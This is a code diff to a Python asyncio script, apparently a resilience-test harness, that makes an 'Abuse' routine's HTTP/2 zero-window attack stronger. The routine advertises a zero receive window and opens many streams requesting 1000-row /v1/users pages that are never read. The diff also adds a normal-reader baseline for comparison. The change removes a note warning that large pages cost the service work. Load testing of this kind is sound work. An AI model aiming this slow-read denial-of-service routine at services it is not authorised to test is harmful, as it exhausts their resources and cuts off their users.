@@ -10,7 +10,7 @@ from collections.abc import Awaitable, Callable
 from contextlib import suppress
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-SETTINGS, HEADERS, RESET, PING = 4, 1, 3, 6
+SETTINGS, HEADERS, RESET, PING, WINDOW_UPDATE = 4, 1, 3, 6, 8
 END = 0x5  # of the headers and of the stream
 
 
@@ -74,9 +74,16 @@ class Abuse:
             await asyncio.sleep(0.01)
 
     async def zero_window(self, writer: asyncio.StreamWriter) -> None:
-        """Ask for pages and take nothing. Not for huge ones: what those cost is the service's work, read or not."""
-        writer.write(PREFACE + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0"))
-        ask = get("/v1/users?page_size=100", self.address)
+        """Ask for the largest pages and take nothing."""
+        await self._pages(writer, b"\0\0\0\0")
+
+    async def readers(self, writer: asyncio.StreamWriter) -> None:
+        """Ask for the same pages as often, and take them: no abuse, but what `zero_window` is compared with."""
+        await self._pages(writer, b"\x7f\xff\xff\xff")
+
+    async def _pages(self, writer: asyncio.StreamWriter, window: bytes) -> None:
+        writer.write(PREFACE + frame(SETTINGS, 0, 0, b"\0\x04" + window) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\0\0\0"))
+        ask = get("/v1/users?page_size=1000", self.address)
         for stream in range(1, 101, 2):
             writer.write(frame(HEADERS, END, stream, ask))
             await writer.drain()
